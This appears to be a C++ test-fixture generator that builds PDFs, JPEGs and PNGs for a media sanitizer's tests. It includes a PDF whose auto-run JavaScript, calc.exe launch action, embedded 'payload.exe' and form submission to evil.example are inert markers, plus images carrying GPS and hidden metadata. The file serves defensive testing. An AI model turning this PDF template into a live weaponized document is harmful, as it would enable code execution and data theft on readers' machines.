#include "tests/support/fixtures_media.h"

#include <jpeglib.h>
#include <png.h>
// qpdf 11: PointerHolder is gone from the API we use (std::shared_ptr only).
#define POINTERHOLDER_TRANSITION 4
#include <qpdf/Buffer.hh>
#include <qpdf/QPDF.hh>
#include <qpdf/QPDFWriter.hh>

#include <array>
#include <csetjmp>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <memory>
#include <stdexcept>
#include <string_view>

#include "tests/support/fixtures.h"
#include "tests/support/image_codecs.h"

namespace ferry::test {

using namespace image_codecs;

namespace {

[[noreturn]] void fail(const std::string& what) { throw std::runtime_error("media fixture generator: " + what); }

// ---- PDF ----

std::string stream(const std::string& dict_entries, const std::string& data) {
  return "<< " + dict_entries + " /Length " + std::to_string(data.size()) + " >>\nstream\n" + data + "\nendstream";
}

// objects[i] is object number i + 1; the catalog is object 1.
std::string pdf_from_objects(const std::vector<std::string>& objects) {
  std::string pdf = "%PDF-1.7\n%\xE2\xE3\xCF\xD3\n";
  std::vector<std::size_t> offsets;
  for (std::size_t i = 0; i < objects.size(); ++i) {
    offsets.push_back(pdf.size());
    pdf += std::to_string(i + 1) + " 0 obj\n" + objects[i] + "\nendobj\n";
  }
  const std::size_t xref = pdf.size();
  // ISO 32000-1 §7.5.4: 20-byte entries.
  pdf += "xref\n0 " + std::to_string(objects.size() + 1) + "\n0000000000 65535 f \n";
  for (std::size_t off : offsets) {
    char entry[21];
    std::snprintf(entry, sizeof entry, "%010zu 00000 n \n", off);
    pdf += entry;
  }
  return pdf + "trailer\n<< /Size " + std::to_string(objects.size() + 1) + " /Root 1 0 R >>\nstartxref\n" +
         std::to_string(xref) + "\n%%EOF\n";
}

std::string text_page_content(const std::string& text) { return "BT\n/F1 12 Tf\n72 720 Td\n(" + text + ") Tj\nET\n"; }

// ---- TIFF / Exif ----

void put16(std::string& s, unsigned v) {
  s += static_cast<char>(v & 0xFF);
  s += static_cast<char>((v >> 8) & 0xFF);
}

void put32(std::string& s, std::uint32_t v) {
  put16(s, v & 0xFFFF);
  put16(s, v >> 16);
}

// One 12-byte IFD entry (TIFF 6.0 §2): tag, type, count, value or offset.
void ifd_entry(std::string& s, unsigned tag, unsigned type, std::uint32_t count, std::uint32_t value) {
  put16(s, tag);
  put16(s, type);
  put32(s, count);
  put32(s, value);
}

std::uint32_t ascii_inline(char c) { return static_cast<std::uint32_t>(static_cast<unsigned char>(c)); }

// ---- PNG ----

std::uint32_t crc32(std::string_view bytes) {
  std::uint32_t crc = 0xFFFFFFFFu;
  for (char c : bytes) {
    crc ^= static_cast<unsigned char>(c);
    for (int k = 0; k < 8; ++k) crc = (crc >> 1) ^ (0xEDB88320u & (0u - (crc & 1u)));
  }
  return ~crc;
}

void put_be32(std::string& s, std::uint32_t v) {
  for (int shift = 24; shift >= 0; shift -= 8) s += static_cast<char>((v >> shift) & 0xFF);
}

// ISO/IEC 15948 §5.3: length, type, data, CRC over type and data.
std::string png_chunk(std::string_view type, std::string_view data) {
  std::string c;
  put_be32(c, static_cast<std::uint32_t>(data.size()));
  const std::string body = std::string(type) + std::string(data);
  c += body;
  put_be32(c, crc32(body));
  return c;
}

struct PngChunk {
  std::string type;
  std::string data;
};

std::vector<PngChunk> png_chunks(const std::string& png) {
  std::vector<PngChunk> out;
  std::size_t at = 8;
  while (at + 12 <= png.size()) {
    const std::uint32_t len = static_cast<std::uint32_t>(static_cast<unsigned char>(png[at])) << 24 |
                              static_cast<std::uint32_t>(static_cast<unsigned char>(png[at + 1])) << 16 |
                              static_cast<std::uint32_t>(static_cast<unsigned char>(png[at + 2])) << 8 |
                              static_cast<unsigned char>(png[at + 3]);
    out.push_back({png.substr(at + 4, 4), png.substr(at + 8, len)});
    at += 12 + len;
  }
  return out;
}


// ---- JPEG ----


std::string jpeg_segment(unsigned marker, const std::string& body) {
  std::string s = "\xFF";
  s += static_cast<char>(marker);
  const std::size_t len = body.size() + 2;
  s += static_cast<char>((len >> 8) & 0xFF);
  s += static_cast<char>(len & 0xFF);
  return s + body;
}

// The offset just after the JFIF APP0 the encoder writes first.
std::size_t after_app0(const std::string& jpeg) {
  if (jpeg.size() < 6 || static_cast<unsigned char>(jpeg[3]) != 0xE0) fail("JPEG without APP0 first");
  return 4 + (static_cast<std::size_t>(static_cast<unsigned char>(jpeg[4])) << 8 | static_cast<unsigned char>(jpeg[5]));
}

}  // namespace

std::string make_active_pdf() {
  const std::string js_open = "<< /S /JavaScript /JS (this.ferry_open_action=1;) >>";
  std::vector<std::string> o(22);
  o[0] = "<< /Type /Catalog /Pages 2 0 R /OpenAction 10 0 R /AA << /WC << /S /JavaScript /JS (this.ferry_catalog_aa=1;) "
         ">> >> /Names << /JavaScript 11 0 R /EmbeddedFiles 12 0 R >> /AcroForm 13 0 R /Outlines 14 0 R >>";
  o[1] = "<< /Type /Pages /Kids [4 0 R 6 0 R] /Count 2 >>";
  o[2] = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>";
  o[3] = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R "
         "/Annots [7 0 R 8 0 R 9 0 R 16 0 R] /AA << /O << /S /JavaScript /JS (this.ferry_page_aa=1;) >> >> >>";
  o[4] = stream("", text_page_content("Quarterly report"));
  o[5] = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 17 0 R "
         "/Annots [19 0 R 22 0 R] >>";
  o[6] = "<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /Border [0 0 0] "
         "/A << /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >> >>";
  o[7] = "<< /Type /Annot /Subtype /RichMedia /Rect [72 500 300 650] /RichMediaContent << /Assets << /Names [] >> "
         "/Configurations [] >> >>";
  o[8] = "<< /Type /Annot /Subtype /FileAttachment /Rect [72 450 90 470] /FS 18 0 R /Name /PushPin >>";
  o[9] = js_open;
  o[10] = "<< /Names [(init) << /S /JavaScript /JS (this.ferry_name_tree=1;) >>] >>";
  o[11] = "<< /Names [(payload.exe) 18 0 R] >>";
  o[12] = "<< /Fields [16 0 R] /XFA 20 0 R /NeedsRendering true >>";
  o[13] = "<< /Type /Outlines /First 15 0 R /Last 15 0 R /Count 1 >>";
  o[14] = "<< /Title (Start) /Parent 14 0 R /A << /S /JavaScript /JS (this.ferry_outline=1;) >> >>";
  o[15] = "<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (Send) /Rect [72 400 150 420] /P 4 0 R "
          "/A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >> >>";
  o[16] = stream("", text_page_content("Second page"));
  o[17] = "<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 21 0 R >> >>";
  o[18] = "<< /Type /Annot /Subtype /Link /Rect [72 700 200 720] /Border [0 0 0] /A << /S /URI /URI "
          "(https://example.com/) /Next << /S /JavaScript /JS (this.ferry_next=1;) >> >> >>";
  o[19] = stream("", "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template><script>ferry_xfa_script</script>"
                     "</template></xdp:xdp>");
  o[20] = stream("/Type /EmbeddedFile", "MZ-ferry-payload");
  o[21] = "<< /Type /Annot /Subtype /Link /Rect [72 600 200 620] /Border [0 0 0] /A << /S /GoTo /D [4 0 R /Fit] >> >>";
  return pdf_from_objects(o);
}

std::vector<std::string> active_pdf_payloads() {
  return {"ferry_open_action", "ferry_catalog_aa", "ferry_page_aa", "ferry_name_tree", "ferry_outline",
          "ferry_next",        "ferry_xfa_script", "MZ-ferry-payload", "calc.exe",      "evil.example",
          "payload.exe"};
}

std::string make_pdf_with_links(const std::vector<std::string>& uris) {
  std::string annots;
  for (std::size_t i = 0; i < uris.size(); ++i) annots += std::to_string(6 + i) + " 0 R ";
  std::vector<std::string> o = {
      "<< /Type /Catalog /Pages 2 0 R >>",
      "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Contents 5 0 R "
      "/Annots [" + annots + "] >>",
      stream("", text_page_content("Links"))};
  for (std::size_t i = 0; i < uris.size(); ++i) {
    const std::string y = std::to_string(700 - 20 * i);
    o.push_back("<< /Type /Annot /Subtype /Link /Rect [72 " + y + " 300 " + y + "] /A << /S /URI /URI (" + uris[i] +
                ") >> >>");
  }
  return pdf_from_objects(o);
}

std::string make_pdf_zip_polyglot(const std::vector<std::string>& page_texts) {
  PdfOptions options;
  options.append = make_zip({{"readme.txt", "this part is a zip archive"}});
  return make_pdf(page_texts, options);
}

std::string make_pdf_open_encrypted(const std::vector<std::string>& page_texts) {
  const std::string plain = make_pdf(page_texts);
  QPDF pdf;
  pdf.processMemoryFile("fixture", plain.data(), plain.size());
  QPDFWriter writer(pdf);
  writer.setOutputMemory();
  writer.setR6EncryptionParameters("", "owner", true, true, true, true, true, true, qpdf_r3p_full, true);
  writer.write();
  std::shared_ptr<Buffer> out = writer.getBufferSharedPointer();
  return std::string(reinterpret_cast<const char*>(out->getBuffer()), out->getSize());
}

std::string exif_tiff_with_gps() {
  std::string t = "II";
  put16(t, 42);
  put32(t, 8);
  // IFD0 at 8: two entries, ends at 38; "FerryCam\0" at 38, GPS IFD at 48.
  put16(t, 2);
  ifd_entry(t, 0x010F, 2, 9, 38);  // Make, ASCII
  ifd_entry(t, 0x8825, 4, 1, 48);  // GPSInfo IFD pointer, LONG
  put32(t, 0);
  t += std::string("FerryCam\0", 9);
  t += '\0';
  // GPS IFD at 48: four entries, ends at 102; rationals at 102 and 126.
  put16(t, 4);
  ifd_entry(t, 0x0001, 2, 2, ascii_inline('N'));  // GPSLatitudeRef
  ifd_entry(t, 0x0002, 5, 3, 102);                // GPSLatitude, RATIONAL x3
  ifd_entry(t, 0x0003, 2, 2, ascii_inline('E'));  // GPSLongitudeRef
  ifd_entry(t, 0x0004, 5, 3, 126);                // GPSLongitude
  put32(t, 0);
  for (std::uint32_t v : {39u, 1u, 54u, 1u, 2400u, 100u, 116u, 1u, 23u, 1u, 4200u, 100u}) put32(t, v);
  if (t.size() != 150) fail("Exif layout");
  return t;
}

std::string make_jpeg_with_metadata(unsigned width, unsigned height) {
  std::string jpeg = make_jpeg(width, height);
  const std::string segments =
      jpeg_segment(0xE1, std::string("Exif\0\0", 6) + exif_tiff_with_gps()) +
      jpeg_segment(0xE1, std::string("http://ns.adobe.com/xap/1.0/\0", 29) +
                             "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF "
                             "xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><rdf:Description "
                             "xmlns:exif=\"http://ns.adobe.com/exif/1.0/\" exif:GPSLatitude=\"39,54.4N\"/>"
                             "</rdf:RDF></x:xmpmeta>") +
      jpeg_segment(0xE2, std::string("ICC_PROFILE\0\x01\x01", 14) + std::string(128, '\x11')) +
      jpeg_segment(0xED, std::string("Photoshop 3.0\0", 14) + "8BIM" + std::string("\x04\x04\0\0\0\0\0\0", 8)) +
      jpeg_segment(0xFE, "shot by agent 7");
  jpeg.insert(after_app0(jpeg), segments);
  return jpeg;
}

std::string make_jpeg_declaring(unsigned width, unsigned height) {
  std::string jpeg = make_jpeg(16, 16);
  // ITU-T T.81 §B.2.2: SOF0 is FF C0, length, precision, then Y and X.
  const std::size_t sof = jpeg.find("\xFF\xC0");
  if (sof == std::string::npos) fail("no SOF0");
  jpeg[sof + 5] = static_cast<char>((height >> 8) & 0xFF);
  jpeg[sof + 6] = static_cast<char>(height & 0xFF);
  jpeg[sof + 7] = static_cast<char>((width >> 8) & 0xFF);
  jpeg[sof + 8] = static_cast<char>(width & 0xFF);
  return jpeg;
}

namespace {

// A baseline JPEG of a gradient in a colour space libjpeg encodes from
// itself: grayscale (1 component) or CMYK (4, written with the Adobe marker).
std::string encode_jpeg(unsigned width, unsigned height, int components, J_COLOR_SPACE space) {
  jpeg_compress_struct cinfo{};
  JpegError err{};
  unsigned char* buffer = nullptr;
  unsigned long size = 0;
  // before setjmp: a longjmp may not skip its construction
  std::vector<unsigned char> row(std::size_t{width} * static_cast<std::size_t>(components));
  cinfo.err = jpeg_std_error(&err.mgr);
  err.mgr.error_exit = jpeg_fail;
  if (setjmp(err.jump)) {
    jpeg_destroy_compress(&cinfo);
    std::free(buffer);
    fail("libjpeg refused the image");
  }
  jpeg_create_compress(&cinfo);
  jpeg_mem_dest(&cinfo, &buffer, &size);
  cinfo.image_width = width;
  cinfo.image_height = height;
  cinfo.input_components = components;
  cinfo.in_color_space = space;
  jpeg_set_defaults(&cinfo);
  jpeg_set_quality(&cinfo, 90, TRUE);
  jpeg_start_compress(&cinfo, TRUE);
  while (cinfo.next_scanline < cinfo.image_height) {
    for (std::size_t i = 0; i < row.size(); ++i) {
      row[i] = static_cast<unsigned char>((i / static_cast<std::size_t>(components) * (i % 4 + 1) + cinfo.next_scanline) & 0xFF);
    }
    JSAMPROW p = row.data();
    jpeg_write_scanlines(&cinfo, &p, 1);
  }
  jpeg_finish_compress(&cinfo);
  jpeg_destroy_compress(&cinfo);
  std::string out(reinterpret_cast<const char*>(buffer), size);
  std::free(buffer);
  return out;
}

}  // namespace

std::string make_gray_jpeg(unsigned width, unsigned height) { return encode_jpeg(width, height, 1, JCS_GRAYSCALE); }

std::string make_cmyk_jpeg(unsigned width, unsigned height) { return encode_jpeg(width, height, 4, JCS_CMYK); }

std::string make_progressive_jpeg(unsigned width, unsigned height, bool every_scan) {
  jpeg_compress_struct cinfo{};
  JpegError err{};
  unsigned char* buffer = nullptr;
  unsigned long size = 0;
  std::vector<unsigned char> row(std::size_t{width} * 3);  // before setjmp, like the script
  std::vector<jpeg_scan_info> script;
  // ITU-T T.81 §G.1.1.1 and libjpeg's validate_script: per component, a DC
  // first scan, then each AC coefficient alone; then, for each bit of
  // successive approximation (Al from 10 down to 0), a refinement of each.
  for (int component = 0; every_scan && component < 3; ++component) {
    for (int ah = 0, al = 10; al >= 0; ah = al, --al) {
      for (int k = 0; k < 64; ++k) {
        jpeg_scan_info scan{};
        scan.comps_in_scan = 1;
        scan.component_index[0] = component;
        scan.Ss = k;
        scan.Se = k;
        scan.Ah = ah;
        scan.Al = al;
        script.push_back(scan);
      }
    }
  }
  cinfo.err = jpeg_std_error(&err.mgr);
  err.mgr.error_exit = jpeg_fail;
  if (setjmp(err.jump)) {
    jpeg_destroy_compress(&cinfo);
    std::free(buffer);
    fail("libjpeg refused the image");
  }
  jpeg_create_compress(&cinfo);
  jpeg_mem_dest(&cinfo, &buffer, &size);
  cinfo.image_width = width;
  cinfo.image_height = height;
  cinfo.input_components = 3;
  cinfo.in_color_space = JCS_RGB;
  jpeg_set_defaults(&cinfo);
  jpeg_set_quality(&cinfo, 90, TRUE);
  cinfo.optimize_coding = TRUE;
  if (every_scan) {
    cinfo.scan_info = script.data();
    cinfo.num_scans = static_cast<int>(script.size());
  } else {
    jpeg_simple_progression(&cinfo);
  }
  jpeg_start_compress(&cinfo, TRUE);
  while (cinfo.next_scanline < cinfo.image_height) {
    for (unsigned x = 0; x < width; ++x) {
      row[std::size_t{x} * 3] = static_cast<unsigned char>(x * 255 / (width > 1 ? width - 1 : 1));
      row[std::size_t{x} * 3 + 1] = static_cast<unsigned char>(cinfo.next_scanline & 0xFF);
      row[std::size_t{x} * 3 + 2] = static_cast<unsigned char>((x + cinfo.next_scanline) & 0xFF);
    }
    JSAMPROW p = row.data();
    jpeg_write_scanlines(&cinfo, &p, 1);
  }
  jpeg_finish_compress(&cinfo);
  jpeg_destroy_compress(&cinfo);
  std::string out(reinterpret_cast<const char*>(buffer), size);
  std::free(buffer);
  return out;
}

std::string make_rgba_png(unsigned width, unsigned height, bool metadata) {
  std::string out;
  std::vector<std::vector<unsigned char>> rows(height, std::vector<unsigned char>(std::size_t{width} * 4));
  for (unsigned y = 0; y < height; ++y) {
    for (unsigned x = 0; x < width; ++x) {
      unsigned char* p = &rows[y][std::size_t{x} * 4];
      p[0] = static_cast<unsigned char>(x * 255 / (width > 1 ? width - 1 : 1));
      p[1] = static_cast<unsigned char>(y & 0xFF);
      p[2] = static_cast<unsigned char>((x * y) & 0xFF);
      p[3] = static_cast<unsigned char>(255 - ((x + y) & 0x7F));
    }
  }
  PngWriter w;
  w.png = png_create_write_struct(PNG_LIBPNG_VER_STRING, nullptr, nullptr, nullptr);
  if (w.png == nullptr) fail("png_create_write_struct");
  w.info = png_create_info_struct(w.png);
  if (w.info == nullptr) fail("png_create_info_struct");
  if (setjmp(png_jmpbuf(w.png))) fail("libpng refused the image");
  png_set_write_fn(w.png, &out, png_append, png_no_flush);
  png_set_IHDR(w.png, w.info, width, height, 8, PNG_COLOR_TYPE_RGBA, PNG_INTERLACE_NONE, PNG_COMPRESSION_TYPE_DEFAULT,
               PNG_FILTER_TYPE_DEFAULT);
  char comment_key[] = "Comment";
  char comment[] = "generated by ferry's tests";
  char description_key[] = "Description";
  char description[] = "taken at the north gate, 39.9N 116.4E";
  char xmp_key[] = "XML:com.adobe.xmp";
  char xmp[] = "<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">"
               "<rdf:Description xmlns:dc=\"http://purl.org/dc/elements/1.1/\" dc:creator=\"agent 7\"/>"
               "</rdf:RDF></x:xmpmeta>";
  std::array<png_text, 3> text{};
  text[0].compression = PNG_TEXT_COMPRESSION_NONE;
  text[0].key = comment_key;
  text[0].text = comment;
  text[1].compression = PNG_TEXT_COMPRESSION_zTXt;
  text[1].key = description_key;
  text[1].text = description;
  text[2].compression = PNG_ITXT_COMPRESSION_NONE;
  text[2].key = xmp_key;
  text[2].text = xmp;
  png_time when{};
  when.year = 2026;
  when.month = 11;
  when.day = 27;
  if (metadata) {
    png_set_text(w.png, w.info, text.data(), static_cast<int>(text.size()));
    png_set_tIME(w.png, w.info, &when);
  }
  png_write_info(w.png, w.info);
  for (auto& row : rows) png_write_row(w.png, row.data());
  png_write_end(w.png, w.info);
  if (!metadata) return out;
  // eXIf (libpng 1.6.39 writes a second copy after the IDAT when asked to
  // write one) and a private ancillary chunk (lowercase first letter, §5.4),
  // spliced in before the IDAT.
  const std::size_t idat = out.find("IDAT") - 4;
  out.insert(idat, png_chunk("eXIf", exif_tiff_with_gps()) + png_chunk("prVt", "hidden note"));
  return out;
}

std::string make_png_declaring(unsigned width, unsigned height) {
  std::string ihdr;
  put_be32(ihdr, width);
  put_be32(ihdr, height);
  ihdr += std::string("\x08\x02\x00\x00\x00", 5);  // 8-bit RGB, deflate, filter 0, no interlace
  // A zlib stream (RFC 1950) holding one stored block of one zero byte.
  const std::string idat("\x78\x01\x01\x01\x00\xFE\xFF\x00\x00\x01\x00\x01", 12);
  return std::string("\x89PNG\r\n\x1a\n", 8) + png_chunk("IHDR", ihdr) + png_chunk("IDAT", idat) +
         png_chunk("IEND", "");
}

std::string make_gray16_png(unsigned width, unsigned height) {
  std::string out;
  PngWriter w;
  w.png = png_create_write_struct(PNG_LIBPNG_VER_STRING, nullptr, nullptr, nullptr);
  if (w.png == nullptr) fail("png_create_write_struct");
  w.info = png_create_info_struct(w.png);
  if (w.info == nullptr) fail("png_create_info_struct");
  std::vector<unsigned char> row(std::size_t{width} * 2);
  if (setjmp(png_jmpbuf(w.png))) fail("libpng refused the image");
  png_set_write_fn(w.png, &out, png_append, png_no_flush);
  png_set_IHDR(w.png, w.info, width, height, 16, PNG_COLOR_TYPE_GRAY, PNG_INTERLACE_NONE, PNG_COMPRESSION_TYPE_DEFAULT,
               PNG_FILTER_TYPE_DEFAULT);
  png_write_info(w.png, w.info);
  for (unsigned y = 0; y < height; ++y) {
    for (unsigned x = 0; x < width; ++x) {
      const unsigned v = (x * 65535 / (width > 1 ? width - 1 : 1) + y * 256) & 0xFFFF;
      row[std::size_t{x} * 2] = static_cast<unsigned char>(v >> 8);  // §7.1: most significant byte first
      row[std::size_t{x} * 2 + 1] = static_cast<unsigned char>(v & 0xFF);
    }
    png_write_row(w.png, row.data());
  }
  png_write_end(w.png, w.info);
  return out;
}

std::string make_apng(unsigned width, unsigned height) {
  std::string out("\x89PNG\r\n\x1a\n", 8);
  // APNG 1.0: acTL before the first IDAT; fcTL 0 before it makes the default
  // image the first frame; the second frame is fcTL 1 and fdAT 2.
  auto frame_control = [&](std::uint32_t sequence) {
    std::string d;
    for (std::uint32_t v : {sequence, static_cast<std::uint32_t>(width), static_cast<std::uint32_t>(height), 0u, 0u}) {
      put_be32(d, v);
    }
    d += std::string("\x00\x01\x00\x0A\x00\x00", 6);  // delay 1/10 s, dispose none, blend source
    return png_chunk("fcTL", d);
  };
  std::string idat_data;
  for (const PngChunk& c : png_chunks(make_png(width, height))) {
    if (c.type == "IDAT") {
      if (idat_data.empty()) {
        std::string actl;
        put_be32(actl, 2);
        put_be32(actl, 0);
        out += png_chunk("acTL", actl) + frame_control(0);
      }
      idat_data += c.data;
    }
    if (c.type == "IEND") {
      std::string fdat;
      put_be32(fdat, 2);
      out += frame_control(1) + png_chunk("fdAT", fdat + idat_data);
    }
    out += png_chunk(c.type, c.data);
  }
  return out;
}

}  // namespace ferry::test
